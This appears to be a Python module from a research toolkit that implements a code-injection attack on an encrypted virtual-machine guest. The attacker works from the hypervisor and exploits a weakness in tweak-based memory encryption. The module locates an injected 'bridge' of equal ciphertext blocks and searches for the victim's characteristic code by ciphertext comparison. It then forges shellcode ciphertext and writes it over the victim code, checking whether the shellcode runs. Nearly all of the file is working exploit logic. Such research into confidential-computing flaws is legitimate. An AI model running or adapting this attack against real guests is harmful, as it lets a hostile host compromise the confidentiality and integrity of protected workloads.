"""Code injection into an encrypted guest through ciphertext moves.

Every stage talks to the guest through a :class:`~sevtweak.guest.HypervisorView`
and nothing else: inject plaintext into the bridge, read or write raw
ciphertext, and ask whether the victim code changed.

The identity behind all three stages: under the vulnerable engine, block
``m`` at address ``a`` and block ``m ^ T(a) ^ T(b)`` at address ``b`` have the
same ciphertext. Writing a chosen block into the bridge therefore yields a
ciphertext that decrypts to a chosen value anywhere else.
"""

from __future__ import annotations

import math
import time
from dataclasses import dataclass, field

import numpy as np

from .errors import AmbiguousBridge, BridgeNotFound, CcNotFound, SevTweakError
from .guest import (
    BRIDGE_BYTES,
    BRIDGE_GROUPS,
    SHELLCODE_LEN,
    HypervisorView,
    VictimState,
    check_shellcode,
    hypervisor_view,
)
from .memcrypt import PAGE_SIZE
from .tweak import BLOCK, TweakTable

SUCCESS = "ShellcodeActive"


@dataclass(frozen=True)
class AttackPlan:
    table: TweakTable
    cc: bytes
    cc_page_offset: int
    shellcode: bytes
    bridge_offset: int
    batch_width: int = BRIDGE_GROUPS

    def __post_init__(self):
        if len(self.cc) != BLOCK:
            raise ValueError("characteristic code is 16 bytes")
        if self.cc_page_offset % BLOCK or not 0 <= self.cc_page_offset < PAGE_SIZE:
            raise ValueError("cc_page_offset must be 16-aligned and inside a page")
        if self.bridge_offset % BLOCK or self.bridge_offset + BRIDGE_BYTES > PAGE_SIZE:
            raise ValueError("bridge_offset must be 16-aligned with the bridge inside a page")
        if self.batch_width != BRIDGE_GROUPS:
            raise ValueError(f"batch width is the bridge group count ({BRIDGE_GROUPS})")
        check_shellcode(self.shellcode)

    @classmethod
    def from_scenario(cls, scenario, table: TweakTable) -> AttackPlan:
        return cls(table, scenario.cc, scenario.cc_offset, scenario.shellcode, scenario.bridge_offset)


@dataclass
class AttackReport:
    outcome: str
    bpa: int | None = None
    pcc: int | None = None
    cc_rounds: int = 0
    bridge_candidates: int = 0
    victim_state: VictimState | None = None
    forged: bytes | None = field(default=None, repr=False)
    # wall-clock seconds per stage; informational, never serialized
    timings: dict[str, float] = field(default_factory=dict, compare=False)

    @property
    def succeeded(self) -> bool:
        return self.outcome == SUCCESS

    @property
    def exit_code(self) -> int:
        return 0 if self.succeeded else 1

    def summary(self) -> dict:
        return {
            "outcome": self.outcome,
            "bpa": None if self.bpa is None else hex(self.bpa),
            "pcc": None if self.pcc is None else hex(self.pcc),
            "cc_rounds": self.cc_rounds,
            "bridge_candidates": self.bridge_candidates,
            "victim_state": None if self.victim_state is None else self.victim_state.value,
            "forged": None if self.forged is None else self.forged.hex(),
            "exit_code": self.exit_code,
        }

    def to_text(self) -> str:
        return "".join(f"{k}={'-' if v is None else v}\n" for k, v in self.summary().items())


def _tweak_bytes(table: TweakTable, addr: int) -> bytes:
    return table.tweak(addr).to_bytes()


def _xor(a: bytes, b: bytes) -> bytes:
    return bytes(x ^ y for x, y in zip(a, b))


def bridge_payload(table: TweakTable, bridge_offset: int) -> bytes:
    """``T(o_1) .. T(o_62)`` from in-page offsets only.

    Page-number bits of the bridge address add the same tweak to all 62
    slots, so the slots all encrypt to one ciphertext wherever the page is.
    """
    return b"".join(_tweak_bytes(table, bridge_offset + BLOCK * i) for i in range(BRIDGE_GROUPS))


def scan_bridge_runs(dump: bytes, bridge_offset: int) -> list[int]:
    """Addresses ``page + bridge_offset`` where 62 consecutive blocks share one ciphertext."""
    blocks = np.frombuffer(dump, dtype=np.uint8).reshape(-1, PAGE_SIZE // BLOCK, BLOCK)
    first = bridge_offset // BLOCK
    region = blocks[:, first : first + BRIDGE_GROUPS]
    hits = np.all(region == region[:, :1], axis=(1, 2))
    return [int(p) * PAGE_SIZE + bridge_offset for p in np.flatnonzero(hits)]


def find_bridge_candidates(guest, table: TweakTable, bridge_offset: int) -> list[int]:
    view = hypervisor_view(guest)
    view.inject(bridge_payload(table, bridge_offset))
    return scan_bridge_runs(view.hv_read_cipher(0, view.size_bytes), bridge_offset)


def find_bridge(guest, table: TweakTable, bridge_offset: int) -> int:
    found = find_bridge_candidates(guest, table, bridge_offset)
    if not found:
        raise BridgeNotFound(f"no run of {BRIDGE_GROUPS} equal blocks at offset {bridge_offset:#x}")
    if len(found) > 1:
        raise AmbiguousBridge(found)
    return found[0]


def cc_candidates(page_count: int, cc_page_offset: int) -> list[int]:
    return [page * PAGE_SIZE + cc_page_offset for page in range(page_count)]


def find_cc(guest, plan: AttackPlan, bpa: int, candidates: list[int] | None = None) -> tuple[int, int]:
    """Search candidates 62 at a time; return ``(pcc, rounds_used)``.

    Bridge slot ``j`` receives ``CC ^ T(slot_j ^ cand_j)``. Its ciphertext
    equals the ciphertext stored at ``cand_j`` exactly when ``cand_j`` holds CC.
    """
    view = hypervisor_view(guest)
    if candidates is None:
        candidates = cc_candidates(view.page_count, plan.cc_page_offset)
    width = plan.batch_width
    rounds = 0
    for start in range(0, len(candidates), width):
        batch = candidates[start : start + width]
        rounds += 1
        payload = b"".join(
            _xor(plan.cc, _tweak_bytes(plan.table, (bpa + BLOCK * j) ^ cand)) for j, cand in enumerate(batch)
        )
        view.inject(payload)
        bridge_ct = view.hv_read_cipher(bpa, BLOCK * len(batch))
        for j, cand in enumerate(batch):
            if view.hv_read_cipher(cand, BLOCK) == bridge_ct[BLOCK * j : BLOCK * (j + 1)]:
                return cand, rounds
    raise CcNotFound(f"characteristic code not found among {len(candidates)} candidates")


def shellcode_payload(plan: AttackPlan, bpa: int, pcc: int) -> bytes:
    sc = plan.shellcode
    return b"".join(
        _xor(_tweak_bytes(plan.table, (pcc + BLOCK * k) ^ (bpa + BLOCK * k)), sc[BLOCK * k : BLOCK * (k + 1)])
        for k in range(SHELLCODE_LEN // BLOCK)
    )


def inject_shellcode(guest, plan: AttackPlan, bpa: int, pcc: int) -> bytes:
    """Forge the victim's ciphertext in the bridge and move it over PCC.

    Returns the 48 ciphertext bytes written at ``pcc``.
    """
    view = hypervisor_view(guest)
    view.inject(shellcode_payload(plan, bpa, pcc))
    forged = view.hv_read_cipher(bpa, SHELLCODE_LEN)
    view.hv_write_cipher(pcc, forged)
    return forged


def _failed(reason: str) -> str:
    return f"Failed({reason})"


def run_attack(guest, plan: AttackPlan) -> AttackReport:
    """Bridge search, CC search, injection, check. Failures come back in the report."""
    view: HypervisorView = hypervisor_view(guest)
    timings = {}
    t0 = time.perf_counter()
    try:
        bridges = [find_bridge(view, plan.table, plan.bridge_offset)]
    except AmbiguousBridge as exc:
        bridges = exc.candidates
    except BridgeNotFound:
        timings["bridge"] = time.perf_counter() - t0
        return AttackReport(_failed("BridgeNotFound"), timings=timings)
    timings["bridge"] = time.perf_counter() - t0

    report = AttackReport(_failed("CcNotFound"), bridge_candidates=len(bridges), timings=timings)
    t0 = time.perf_counter()
    for bpa in bridges:
        try:
            pcc, rounds = find_cc(view, plan, bpa)
        except CcNotFound:
            report.cc_rounds = math.ceil(view.page_count / plan.batch_width)
            continue
        report.bpa, report.pcc, report.cc_rounds = bpa, pcc, rounds
        break
    timings["cc"] = time.perf_counter() - t0
    if report.pcc is None:
        return report

    t0 = time.perf_counter()
    try:
        report.forged = inject_shellcode(view, plan, report.bpa, report.pcc)
    except SevTweakError as exc:
        report.outcome = _failed(type(exc).__name__)
        return report
    report.victim_state = view.victim_check(plan.shellcode)
    timings["inject"] = time.perf_counter() - t0
    if report.victim_state is VictimState.SHELLCODE_ACTIVE:
        report.outcome = SUCCESS
    else:
        report.outcome = _failed(report.victim_state.value)
    return report
